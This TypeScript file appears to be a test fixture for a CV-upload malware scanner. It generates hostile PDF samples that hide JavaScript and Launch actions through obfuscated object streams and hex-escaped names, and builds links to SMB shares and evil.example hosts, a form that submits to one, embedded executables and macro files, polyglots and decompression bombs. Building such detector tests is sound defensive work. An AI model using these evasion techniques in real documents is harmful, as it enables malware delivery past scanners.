import { buildDocx } from './build-docx.ts';
import { encryptedPdf } from './build-encrypted-pdf.ts';
import { addRevision, buildPdf, deflated, objectStream, type PdfOptions, streamObject } from './build-pdf.ts';
import { buildZip } from './build-zip.ts';
import { gif, type HostileCv, program } from './hostile-cv.ts';

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const launch = '<< /S /Launch /F (cmd.exe) >>';
const share = '(\\\\\\\\10.0.0.1\\\\share\\\\x.pdf)';
const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`;

const pdf = (family: string, options: PdfOptions | Buffer, held: HostileCv['held']): HostileCv => ({
  family: `PDF: ${family}`,
  name: 'cv.pdf',
  bytes: Buffer.isBuffer(options) ? options : buildPdf(options),
  held,
});

/** The same action, hidden in every way that a reader of bytes would miss. */
function disguises(): HostileCv[] {
  const family = 'an action in disguise';
  const one = (options: PdfOptions | Buffer, held: HostileCv['held'] = 'script') =>
    pdf(family, options, held);
  const openPacked = (stream: string, more: readonly string[] = []) =>
    one({ catalog: '/OpenAction 9 0 R', extraObjects: [stream, ...more] });
  const packed = { 9: script };
  const hex = (plain: string) => `${Buffer.from(deflated(plain), 'latin1').toString('hex')}>`;
  const up = (plain: string) => {
    const columns = 16;
    const rows = Array.from({ length: Math.ceil(plain.length / columns) }, (_, i) =>
      Buffer.from(plain.slice(i * columns, (i + 1) * columns).padEnd(columns), 'latin1'),
    );
    const filtered = rows.map((row, i) =>
      Buffer.concat([Buffer.from([2]), row.map((byte, at) => byte - (rows[i - 1]?.[at] ?? 0))]),
    );
    return deflated(Buffer.concat(filtered));
  };
  const plain = buildPdf();
  const inStream = streamObject('', `9 0 obj\n${script}\nendobj`);
  const named = `<< /JavaScript << /Names [(a) ${script}] >> >>`;
  /** Objects that the catalogue leads to where finding nothing is no fault. */
  const behind = (head: string) =>
    Buffer.concat([buildPdf({ catalog: '/Names 8 0 R' }), Buffer.from(`${head}\n${named}\nendobj\n`)]);
  const within = (head: string) =>
    buildPdf({ catalog: '/Names 8 0 R', extraObjects: [streamObject('', `${head}\n${named}\nendobj`)] });
  const namesPacked = (change: (stream: string) => string, more: readonly string[] = []) =>
    buildPdf({
      catalog: '/Names 9 0 R',
      extraObjects: [change(objectStream({ 8: 'null', 9: named })), ...more],
    });
  const uncounted = namesPacked((stream) => stream.replace('/N 2', '/N 6 0 R'), ['1']);
  const unfiltered = namesPacked(
    (stream) => stream.replace('/Filter /FlateDecode', '/Filter [6 0 R]'),
    ['/FlateDecode'],
  );
  const shortened = (length: string) =>
    namesPacked(
      () =>
        objectStream(
          { 8: `(${'endstream'.padStart(10)} endobj)`, 9: named },
          { filter: '', pack: (text) => text, length },
        ),
      ['24'],
    );
  return [
    one(behind('8 000000 obj')),
    one(behind('00000000008 0 obj')),
    one(behind('8 +0 obj'), 'hidden'),
    one(behind('+8 0 obj'), 'hidden'),
    one(behind('8.0 0 obj'), 'hidden'),
    one(behind('8 0. obj'), 'hidden'),
    one(behind('4294967304 0 obj'), 'hidden'),
    one(behind('8 %\n%\n0 obj'), 'hidden'),
    one(behind('8 0 %\r%\robj'), 'hidden'),
    one(behind(`8 0 %${'c'.repeat(500)}\nobj`), 'hidden'),
    one(behind(`8 %${'%\n'.repeat(300)}0 obj`), 'hidden'),
    one(behind('8 0 (x) obj'), 'hidden'),
    one(within('8 +0 obj'), 'hidden'),
    one(within('8 %\n% 50%\n0 obj'), 'hidden'),
    one(addRevision(uncounted, { 6: '2' }), 'hidden'),
    one(addRevision(unfiltered, { 6: '/ASCIIHexDecode' }), 'hidden'),
    one(
      namesPacked((stream) => stream.replace('/N 2', '/N 2 /N 1')),
      'hidden',
    ),
    one(
      namesPacked((stream) => stream.replace('/N 2', '/N 2 /#4e 1')),
      'hidden',
    ),
    one(
      namesPacked((stream) => stream.replace('/First', '/First 3 /First')),
      'hidden',
    ),
    one(
      namesPacked((stream) => stream.replace('/Filter', '/Filter null /Filter')),
      'hidden',
    ),
    one(shortened('9999'), 'hidden'),
    // Read as object 5 where a table points at its second digit.
    one(
      {
        page: link('5 0 R'),
        extraObjects: [
          '<< /S /GoTo /D [3 0 R /Fit] >>',
          ...Array.from({ length: 9 }, () => 'null'),
          '<< /S /URI /URI (file://10.0.0.1/x) >>',
        ],
      },
      'oddLink',
    ),
    one({ page: link('<< /S 5 0 R /URI (x) >>'), extraObjects: ['/URI'] }, 'hidden'),
    one({ page: link('<< /S /URI /URI 5 0 R >>'), extraObjects: ['(https://example.com)'] }, 'hidden'),
    one(Buffer.from(plain.toString('latin1').replace('endobj', `${named} endobj`), 'latin1'), 'hidden'),
    one(shortened('6 0 R'), 'hidden'),
    one({ catalog: `/OpenAction ${script}` }),
    one({ catalog: '/OpenAction 5 0 R', extraObjects: [script] }),
    one({ catalog: '/OpenAction 5 0 R', extraObjects: ['6 0 R', script] }),
    one({ catalog: '/OpenAction << /S 5 0 R /JS (x) >>', extraObjects: ['/JavaScript'] }),
    one({ catalog: '/OpenAction << /S 5 0 R /F (cmd.exe) >>', extraObjects: ['/Launch'] }, 'startsProgram'),
    one({ catalog: '/OpenAction << /S % a comment\n /JavaScript /JS (x) >>' }),
    one({ catalog: '/OpenAction << /S %>> endobj\r /Launch /F (cmd.exe) >>' }, 'startsProgram'),
    one({ catalog: '/OpenAction << /S /J#61vaScript /JS (x) >>' }),
    one({ catalog: '/#4fpen#41ction << /#53 /#4aava#53cript /#4a#53 (x) >>' }),
    one({ catalog: '/OpenAction << /S /GoTo /S /JavaScript /JS (x) >>' }),
    one({ catalog: '/OpenAction << /S /JavaScript /JS (x) /S /GoTo /JS null >>' }),
    one({ catalog: `/OpenAction ${script} /OpenAction [3 0 R /Fit]` }),
    one({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>', extraObjects: [script] }),
    one({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${launch}] >>` }, 'startsProgram'),
    one({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
    one({
      catalog: '/Names 5 0 R',
      extraObjects: ['<< /JavaScript 6 0 R >>', '<< /Names [(a) 7 0 R] >>', script],
    }),
    one({ catalog: `/AA << /WC ${script} >>` }),
    one({ page: `/AA << /O ${script} >>` }),
    one({ page: '/AA 5 0 R', extraObjects: [`<< /O ${launch} >>`] }, 'startsProgram'),
    one({ page: link(script) }),
    one({ page: link('<< /S /JavaScript /JS 5 0 R >>'), extraObjects: [streamObject('', 'app.alert(1)')] }),
    one({ catalog: '/Outlines << /First 5 0 R >>', extraObjects: [`<< /Title (x) /A ${script} >>`] }),
    one({ catalog: `/AcroForm << /Fields [<< /FT /Tx /T (a) /AA << /F ${script} >> >>] >>` }),
    openPacked(objectStream(packed)),
    openPacked(objectStream(packed, { type: '' })),
    openPacked(objectStream(packed, { type: '/Type 6 0 R' }), ['/ObjStm']),
    openPacked(objectStream(packed, { filter: '6 0 R' }), ['/FlateDecode']),
    openPacked(objectStream(packed, { filter: '[6 0 R]' }), ['/FlateDecode']),
    openPacked(objectStream(packed, { filter: '[/ASCIIHexDecode /FlateDecode]', pack: hex })),
    openPacked(objectStream(packed, { entries: '/DecodeParms << /Predictor 12 /Columns 16 >>', pack: up })),
    openPacked(objectStream(packed, { filter: '', pack: (text) => text })),
    openPacked(objectStream(packed, { length: '6 0 R' }), ['9999']),
    openPacked(objectStream(packed, { length: 1 })),
    openPacked(objectStream({ 8: '(endstream endobj)', ...packed }, { filter: '', pack: (text) => text })),
    openPacked(
      objectStream({ 8: '(\nendstream\nendobj\n)', ...packed }, { filter: '', pack: (text) => text }),
    ),
    one(
      { catalog: '/OpenAction 9 0 R', extraObjects: [objectStream(packed, { filter: '/JBIG2Decode' })] },
      'hidden',
    ),
    one(
      { catalog: '/OpenAction 9 0 R', extraObjects: [objectStream(packed, { filter: '/Crypt' })] },
      'hidden',
    ),
    one({ catalog: '/OpenAction 9 0 R' }, 'hidden'),
    one({ page: '/AA 9 0 R' }, 'hidden'),
    one({ page: link('9 0 R') }, 'hidden'),
    one({ catalog: '/OpenAction << /S 9 0 R >>' }, 'hidden'),
    one({ catalog: '/OpenAction 9 0 R', extraObjects: [inStream] }, 'hidden'),
    one({ catalog: '/OpenAction 9 0 R', extraObjects: [`(9 0 obj ${script} endobj)`] }, 'hidden'),
    one(Buffer.concat([plain, Buffer.from(`9 % c\n0 obj\n${script}\nendobj\n`)]), 'hidden'),
    one(Buffer.concat([plain, Buffer.from(`9${' '.repeat(500)}0${'\n'.repeat(500)}obj${script}`)])),
    one(addRevision(plain, { 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` })),
    one(
      addRevision(buildPdf({ catalog: `/OpenAction ${script}` }), { 1: '<< /Type /Catalog /Pages 2 0 R >>' }),
    ),
    one(
      Buffer.from(
        plain.toString('latin1').replace('/Pages 2 0 R', `/Pages 2 0 R /OpenAction ${launch} /Broken --`),
        'latin1',
      ),
      'damaged',
    ),
    one(encryptedPdf({ catalog: `/OpenAction ${script}` })),
    one(encryptedPdf({ catalog: '/OpenAction 9 0 R', packed })),
    one(encryptedPdf({ page: link('<< /S /URI /URI (file://10.0.0.1/x) >>') }), 'oddLink'),
  ];
}

function actions(): HostileCv[] {
  const onClick: readonly (readonly [string, HostileCv['held']])[] = [
    [launch, 'startsProgram'],
    ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>', 'startsProgram'],
    [`<< /S /GoToR /F ${share} /D [0 /Fit] >>`, 'fetches'],
    [`<< /S /GoToR /F << /F ${share} >> /D [0 /Fit] >>`, 'fetches'],
    ['<< /S /GoToR /F (http://evil.example/x.pdf) /D [0 /Fit] >>', 'fetches'],
    [`<< /S /GoToE /F ${share} /T << /R /C /N (a) >> >>`, 'attachment'],
    ['<< /S /SubmitForm /F (http://evil.example/) /Flags 4 >>', 'activeForm'],
    [`<< /S /ImportData /F ${share} >>`, 'activeForm'],
    ['<< /S /ResetForm >>', 'activeForm'],
    ['<< /S /Hide /T (a) >>', 'activeForm'],
    ['<< /S /Named /N /Print >>', 'activeForm'],
    ['<< /S /Named /N /SaveAs >>', 'activeForm'],
    ['<< /S /Rendition /OP 0 >>', 'media'],
    ['<< /S /Movie /T (a) >>', 'media'],
    ['<< /S /Sound /Sound 5 0 R >>', 'media'],
    ['<< /S /RichMediaExecute /CMD << /C (x) >> >>', 'media'],
    ['<< /S /GoTo3DView /TA 5 0 R >>', 'media'],
    [`<< /S /Thread /F ${share} /D 0 >>`, 'fetches'],
    ['<< /S /SetOCGState /State [/ON 5 0 R] >>', 'activeForm'],
    ['<< /S /SomethingNew >>', 'unknownPart'],
    ['<< /S /URI /URI (file://10.0.0.1/share/x) >>', 'oddLink'],
    ['<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>', 'oddLink'],
    ['<< /S /URI /URI (\\\\\\\\10.0.0.1\\\\share) >>', 'oddLink'],
    ['<< /S /URI /URI (//10.0.0.1/share) >>', 'oddLink'],
    ['<< /S /URI /URI (javascript:app.alert\\(1\\)) >>', 'oddLink'],
    ['<< /S /URI /URI (java\\nscript:alert\\(1\\)) >>', 'oddLink'],
    ['<< /S /URI /URI (ms-msdt:/id) >>', 'oddLink'],
    ['<< /S /URI /URI (search-ms:query=x&crumb=location:\\\\\\\\evil) >>', 'oddLink'],
    ['<< /S /URI /URI (data:text/html,x) >>', 'oddLink'],
    ['<< /S /URI /URI (smb://evil/x) >>', 'oddLink'],
    ['<< /S /URI /URI <66696c653a2f2f31302e302e302e312f78> >>', 'oddLink'],
    ['<< /S /URI /URI 5 0 R >>', 'oddLink'],
  ];
  const uri = '<< /S /URI /URI (http://evil.example/) >>';
  return [
    ...onClick.map(([action, held]) =>
      pdf('an action on a click', { page: link(action), extraObjects: ['(file:////evil/x)'] }, held),
    ),
    ...[
      `/OpenAction ${uri}`,
      `/AA << /WP ${uri} >>`,
      `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${uri} >>`,
    ].map((catalog) => pdf('a page opened by itself', { catalog }, 'opensByItself')),
    pdf('a page opened by itself', { page: `/AA << /O ${uri} >>` }, 'opensByItself'),
    pdf(
      'a page opened by itself',
      { page: `/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 1 1] /AA << /PO ${uri} >> >>]` },
      'opensByItself',
    ),
    pdf('a link to a share by its base', { catalog: '/URI << /Base (file://10.0.0.1/) >>' }, 'oddLink'),
    pdf(
      'a form that is a program',
      { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', extraObjects: [streamObject('', '<xdp/>')] },
      'activeForm',
    ),
    pdf(
      'a form that is a program',
      { catalog: '/AcroForm << /Fields [] /X#46A [(template) 5 0 R] >>' },
      'activeForm',
    ),
    ...['Screen', 'Movie', 'Sound', '3D', 'RichMedia'].map((kind) =>
      pdf('media', { page: `/Annots [<< /Type /Annot /Subtype /${kind} /Rect [0 0 9 9] >>]` }, 'media'),
    ),
    pdf(
      'media',
      { page: '/Annots [5 0 R]', extraObjects: ['<< /Subtype 6 0 R /Rect [0 0 9 9] >>', '/RichMedia'] },
      'media',
    ),
    pdf('media', { catalog: '/Names << /Renditions << /Names [] >> >>' }, 'media'),
    pdf('media', { page: '/Annots [<< /Subtype /Unheard /Rect [0 0 9 9] >>]' }, 'unknownPart'),
    pdf(
      'bytes from another file',
      { extraObjects: [`<< /Length 0 /F ${share} >>\nstream\n\nendstream`] },
      'fetches',
    ),
    pdf(
      'bytes from another file',
      { extraObjects: [streamObject(`/Subtype /Form /Ref << /F ${share} /Page 0 >>`, '')] },
      'fetches',
    ),
  ];
}

function attachments(): HostileCv[] {
  const attached = (name: string, content: Buffer | string) => {
    const text = Buffer.isBuffer(content) ? content.toString('latin1') : content;
    return pdf(
      'another file inside',
      {
        catalog: `/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>] >> >>`,
        extraObjects: [streamObject('/Type /EmbeddedFile', text)],
      },
      'attachment',
    );
  };
  const docm = buildDocx({ documentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' });
  return [
    attached('setup.exe', program),
    attached('europass.xml', program),
    attached('run.js', 'new ActiveXObject("WScript.Shell")'),
    attached('run.vbs', 'CreateObject("WScript.Shell")'),
    attached('cv.hta', '<html><script>1</script></html>'),
    attached('cv.html', '<!doctype html><script>1</script>'),
    attached('cv.xml', '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>'),
    attached('cv.xml', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'),
    attached('cv.xml', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>'),
    attached('cv.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="1"/>'),
    attached('letter.docm', docm),
    attached('letter.docx', docm),
    attached('things.zip', buildZip([{ name: 'a.exe', content: program }])),
    attached('cv.lnk', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')),
    attached('cv.txt.exe', 'just text'),
    attached('cv.pdf', Buffer.from('not a PDF')),
    { ...attached('cv.pdf', buildPdf({ catalog: `/OpenAction ${script}` })), held: 'script' },
    pdf(
      'another file inside',
      { extraObjects: [streamObject('/Type /EmbeddedFile', program.toString('latin1'))] },
      'attachment',
    ),
    pdf(
      'another file inside',
      {
        page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (cv.xml) /EF << /F 5 0 R >> >> >>]',
        extraObjects: [streamObject('', program.toString('latin1'))],
      },
      'attachment',
    ),
    pdf(
      'another file inside',
      {
        catalog:
          '/Names << /EmbeddedFiles << /Names [(a) << /F (cv.xml) /UF (cv.exe) /EF << /F 5 0 R >> >>] >> >>',
        extraObjects: [streamObject('', '<a/>')],
      },
      'attachment',
    ),
    pdf(
      'another file inside',
      {
        page: '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.xml) /EF << /F 9 0 R >> >> >>]',
      },
      'hidden',
    ),
    pdf(
      'another file inside',
      {
        trailer: '/AdditionalStreams [/application#2Fvnd.oasis.opendocument.text 5 0 R]',
        extraObjects: [streamObject('', odtWithMacro().toString('latin1'))],
      },
      'macro',
    ),
  ];
}

const odtWithMacro = (): Buffer =>
  buildZip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    {
      name: 'content.xml',
      content: '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
    },
    { name: 'Basic/Standard/Module1.xml', content: '<a/>' },
  ]);

function mixtures(): HostileCv[] {
  const plain = buildPdf();
  const zip = buildDocx();
  const html = Buffer.from('<!doctype html><script>alert(1)</script>\n');
  const family = 'two kinds of file at once';
  return [
    pdf(family, Buffer.concat([gif, plain]), 'mixed'),
    pdf(family, Buffer.concat([program.subarray(0, 512), plain]), 'mixed'),
    pdf(family, Buffer.concat([html, plain]), 'mixed'),
    pdf(family, Buffer.concat([plain, zip]), 'mixed'),
    pdf(family, Buffer.concat([plain, zip, Buffer.from('\n%%EOF\n')]), 'mixed'),
    pdf(family, Buffer.concat([plain, program]), 'mixed'),
    pdf(family, Buffer.concat([plain, html]), 'mixed'),
    pdf(family, Buffer.concat([plain, Buffer.alloc(10_000, 0x90)]), 'mixed'),
    pdf(
      family,
      Buffer.from(plain.toString('latin1').replace('\n', '\n%<script>alert(1)</script>\n'), 'latin1'),
      'mixed',
    ),
    pdf(
      family,
      Buffer.from(plain.toString('latin1').replace('%PDF-1.7', '%!PS-Adobe-3.0 PDF-1.4'), 'latin1'),
      'mixed',
    ),
    pdf(
      family,
      Buffer.concat([
        Buffer.from('%PDF-1.7\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n'),
        buildZip([{ name: 'a.exe', content: program }], '\nstartxref\n0\n%%EOF'),
      ]),
      'mixed',
    ),
  ];
}

function tooMuch(): HostileCv[] {
  const blanks = deflated(Buffer.alloc(20_000_000, ' '));
  const bomb = streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', blanks);
  const nested = deflated(Buffer.from(blanks, 'latin1'));
  const unread = deflated(Buffer.alloc(15_000_000, 'x'));
  const many = Array.from({ length: 5 }, () =>
    streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', unread),
  );
  return [
    pdf('a bomb', { extraObjects: [bomb] }, 'tooLargeInside'),
    pdf(
      'a bomb',
      {
        extraObjects: [
          streamObject('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', nested),
        ],
      },
      'tooLargeInside',
    ),
    pdf('a bomb', { extraObjects: many }, 'tooLargeInside'),
    pdf(
      'a bomb',
      { extraObjects: [objectStream({ 9: 'null' }).replace('/N 1', '/N 900000')] },
      'tooLargeInside',
    ),
    pdf('a bomb', { catalog: `/A ${'['.repeat(100_000)}` }, 'damaged'),
  ];
}

function damaged(): HostileCv[] {
  const plain = buildPdf();
  return [
    pdf('damaged', plain.subarray(0, 20), 'damaged'),
    pdf('damaged', Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF'), 'damaged'),
    pdf('damaged', buildPdf({ trailer: '/Encrypt 9 0 R' }), 'damaged'),
    pdf('damaged', buildPdf({ trailer: '/Encrypt << /Filter /Standard /V 9 >>' }), 'damaged'),
    pdf('damaged', buildPdf({ trailer: '/Encrypt << /Filter /Adobe.PubSec /V 4 >>' }), 'locked'),
  ];
}

export const hostilePdfs = (): HostileCv[] => [
  ...disguises(),
  ...actions(),
  ...attachments(),
  ...mixtures(),
  ...tooMuch(),
  ...damaged(),
];
